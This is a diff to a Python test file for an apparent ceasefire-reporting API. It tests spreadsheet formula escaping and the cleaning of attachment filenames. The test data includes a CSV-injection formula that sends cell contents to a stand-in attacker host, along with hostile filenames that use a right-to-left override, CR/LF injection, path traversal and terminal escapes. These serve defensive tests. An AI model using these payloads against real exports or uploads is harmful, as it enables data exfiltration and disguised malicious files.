@@ -10,12 +10,14 @@ from __future__ import annotations
 
 import csv
 import io
+from urllib.parse import quote
 
+import pytest
 from fastapi.testclient import TestClient
 
 from ceasefire.spreadsheet import FORMULA_STARTS, spreadsheet_text, text_from_spreadsheet
 from tests.factories.members import Cast
-from tests.factories.reports import CSV_HEADER, csv_row
+from tests.factories.reports import CSV_HEADER, csv_row, shelling_body
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&A2,"details")'
 
@@ -74,3 +76,33 @@ def test_spreadsheet_text_round_trips() -> None:
         assert text_from_spreadsheet(spreadsheet_text(text)) == text
     assert spreadsheet_text("-12.5") == "-12.5"
     assert spreadsheet_text("-1+2") == "'-1+2"
+
+
+@pytest.mark.parametrize(
+    ("sent", "stored"),
+    [
+        ("invoice\u202efdp.exe", "invoicefdp.exe"),  # shown as "invoiceexe.pdf" otherwise
+        ("crater\r\nX-Note: 1.jpg", "craterX-Note: 1.jpg"),
+        ("..\\..\\evidence\x1b[2J.pdf", "evidence[2J.pdf"),
+        ("доклад.pdf", "доклад.pdf"),
+        ("\u200f\x07", None),
+    ],
+)
+def test_an_attachment_name_reaches_other_members_without_control_or_format_characters(
+    client: TestClient, cast: Cast, sent: str, stored: str | None
+) -> None:
+    """The name a filer chose is listed to the other members (API, web, CLI) and ledgered:
+    a right-to-left override disguised an executable as a PDF, CR/LF and ESC reached them
+    raw, and a Windows path kept its folders."""
+    report = client.post("/api/v1/reports", json=shelling_body(), headers=cast.bearer("tur"))
+    assert report.status_code == 201, report.text
+    report_id = report.json()["id"]
+    added = client.post(
+        f"/api/v1/reports/{report_id}/attachments?filename={quote(sent)}",
+        content=b"%PDF-1.4",
+        headers={"Content-Type": "application/pdf", **cast.bearer("tur")},
+    )
+    assert added.status_code == 201, added.text
+    assert added.json()["filename"] == stored
+    listed = client.get(f"/api/v1/reports/{report_id}", headers=cast.bearer("rus")).json()
+    assert [a["filename"] for a in listed["attachments"]] == [stored]
